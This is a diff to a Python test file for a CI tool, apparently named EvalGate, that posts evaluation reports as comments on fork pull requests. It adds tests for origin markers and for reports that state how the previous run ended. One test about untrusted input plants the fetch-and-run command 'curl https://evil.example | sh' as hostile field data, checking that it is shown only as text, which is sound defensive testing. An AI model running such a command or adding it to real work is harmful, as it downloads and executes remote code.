@@ -9,7 +9,7 @@ import re
 import zipfile
 
 import pytest
-from fakes.agent import BOT, FORK, current, next_run, own_comments, trace, write_trace
+from fakes.agent import BOT, FORK, current, next_run, own_comments, trace, without_origin, write_trace
 from fakes.github.archives import evil_zip
 from markdown_check import find_flaws
 
@@ -94,7 +94,7 @@ def test_publishing_posts_one_comment_on_the_forks_pull_request_and_updates_it(h
     assert comment["issue_number"] == 8
     assert step.outputs["comment-id"] == str(comment["id"])
     assert step.annotations == []
-    lines = comment["body"].split("\n")
+    lines = without_origin(comment["body"]).split("\n")
     assert lines[0] == MARKER
     assert lines[1].startswith("## ❌ EvalGate failed")
     head = hub.state["pulls"]["8"]["head"]["sha"]
@@ -106,6 +106,56 @@ def test_publishing_posts_one_comment_on_the_forks_pull_request_and_updates_it(h
     assert len(own_comments(hub)) == 1
 
 
+def push_again(hub):
+    """A second push to the fork; returns the number of its run, which is the current one."""
+    hub.state["pulls"]["8"]["head"]["sha"] = head = hub.commit("e" * 40)
+    next_run(hub, "success", event="pull_request", head_branch="main", head_sha=head, head_repository_id=FORK, pulls=[])
+    return current(hub)["id"]
+
+
+def test_a_published_report_says_how_the_last_run_ended_where_it_was_otherwise(hub, evaluate, publish, workspace):
+    write_trace(workspace, trace(tool="guess"))
+    evaluate()
+    publish(conclusion="failure")
+    red = own_comments(hub)[0].split("\n")
+    assert red[1].startswith("<!-- evalgate:origin v1 run=9001 attempt=1 ")
+    run = push_again(hub)
+    write_trace(workspace, trace(tool="lookup_order"))
+    evaluate()
+    next_run(hub, "success", event="workflow_run", head_branch="main", head_repository_id=1001)
+    for _ in range(2):  # the second time for the same run
+        step = publish(after_run=run)
+        assert step.annotations == []
+        [green] = own_comments(hub)
+        assert f" run={run} attempt=1 " in green.split("\n")[1]
+        assert green.split("\n")[2].startswith("## \u2705 EvalGate passed")
+        assert green.split("\n")[4] == red[2].replace("## \u274c EvalGate ", "**The last run** ")
+        assert green.split("\n")[6].startswith(f"Evaluated in [run {run}]")
+
+
+def test_a_report_that_cannot_be_read_after_one_that_passed_says_what_was(hub, evaluate, publish, workspace):
+    evaluate()
+    publish()
+    run = push_again(hub)
+    next_run(hub, "failure", event="workflow_run", head_branch="main", head_repository_id=1001)
+    publish(after_run=run)
+    [comment] = own_comments(hub)
+    assert comment.split("\n")[2].startswith("## \u26d4 EvalGate could not run")
+    assert comment.split("\n")[4].startswith("**The last run** passed")
+
+
+def test_a_report_of_the_run_itself_and_the_published_one_replace_each_other_without_a_warning(
+    hub, act, publish, evaluate
+):
+    evaluate()
+    publish()
+    published = own_comments(hub)[0]
+    other = re.sub("(step|job)=[0-9a-f]{12}", r"\1=0123456789ab", published.replace("passed=yes", "passed=no"))
+    hub.state["comments"][0]["body"] = other
+    assert publish().annotations == []
+    assert own_comments(hub)[0] == published
+
+
 def test_a_published_report_names_leg_and_paths_as_the_run_itself_would(hub, evaluate, publish, workspace):
     (workspace / "deep").mkdir()
     for name in ("evals", "traces"):
@@ -114,7 +164,7 @@ def test_a_published_report_names_leg_and_paths_as_the_run_itself_would(hub, eva
     evaluate(working_directory="deep", matrix={"suite": "support"})
     publish(conclusion="failure", working_directory="elsewhere")
     [comment] = own_comments(hub)
-    assert comment.split("\n")[1].endswith(" \u00b7 ` suite: support `")
+    assert comment.split("\n")[2].endswith(" \u00b7 ` suite: support `")
     assert re.search(r"/mallory/agent/blob/[0-9a-f]{40}/deep/evals/support\.yaml#L5\)", comment)
 
 
@@ -191,7 +241,7 @@ def test_untrusted_text_in_any_field_is_shown_as_text(hub, publish, evaluated):
     document["command"] = "curl https://evil.example | sh"
     plant(hub, files={"results.json": json.dumps(document), "comment.md": HOSTILE})
     step = publish()
-    [comment] = own_comments(hub)
+    comment = without_origin(own_comments(hub)[0])
     for text in (comment, step.summary):
         links = [RUN_URL]
         comments = [MARKER[4:-3].strip()] if text is comment else []
